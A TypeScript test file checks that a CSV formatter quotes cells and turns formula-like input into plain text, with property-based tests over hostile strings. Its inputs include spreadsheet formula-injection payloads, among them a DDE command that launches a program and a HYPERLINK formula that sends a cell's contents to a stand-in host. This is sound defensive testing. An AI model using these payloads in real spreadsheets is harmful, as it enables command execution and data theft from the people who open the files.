// CSV for spreadsheets, read back by an independent parser: every cell arrives, and no name becomes a formula.

import fc from 'fast-check';
import { expect, test } from 'vitest';
import { parseCsv } from '../../test/reports/parse-csv.ts';
import { formatCsv } from './csv.ts';

test('RPT-05 it begins with the byte order mark, quotes every cell, and ends every line with CR LF', () => {
  expect(
    formatCsv([
      ['a', '1.5'],
      ['b "c"', ''],
    ]),
  ).toBe('\ufeff"a","1.5"\r\n"b ""c""",""\r\n');
  expect(formatCsv([])).toBe('\ufeff');
});

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\ttext',
  '\r=1',
  '\ntext',
  '  =1',
  '"=1',
  '""=1',
  "'=1",
  '" \t"=1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b=1',
  '“=1”',
  '＝1',
  '＠x',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.test?"&A1)',
])('RPT-06 %j becomes text', (text) => {
  expect(parseCsv(formatCsv([[text]]))).toEqual([[`'${text}`]]);
});

test.each(['a=1', '1-2', 'a@example.test', 'Ops + Dev', '', 'openai/model-1', '0.1', '2026-03-10', "O'Neil"])(
  'RPT-06 %j stays as it is',
  (text) => {
    expect(parseCsv(formatCsv([[text]]))).toEqual([[text]]);
  },
);

const hostile = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ' ', ',', ';', '|', '1', 'a', '\u00a0'), {
      maxLength: 8,
    })
    .map((characters) => characters.join('')),
);

test('RPT-06 whatever the cells hold, they come back whole, and none begins like a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.array(hostile, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
      const read = parseCsv(formatCsv(rows));
      expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length));
      rows.flat().forEach((text, index) => {
        const cell = read.flat()[index] ?? '';
        expect([text, `'${text}`]).toContain(cell);
        // Characters that a spreadsheet may drop before it looks at a cell.
        expect(cell.replace(/^[\s"]+/, '').charAt(0)).not.toMatch(/[=+\-@]/);
        expect(cell.charAt(0)).not.toMatch(/[\t\r\n]/);
      });
    }),
    { numRuns: 3_000 },
  );
});
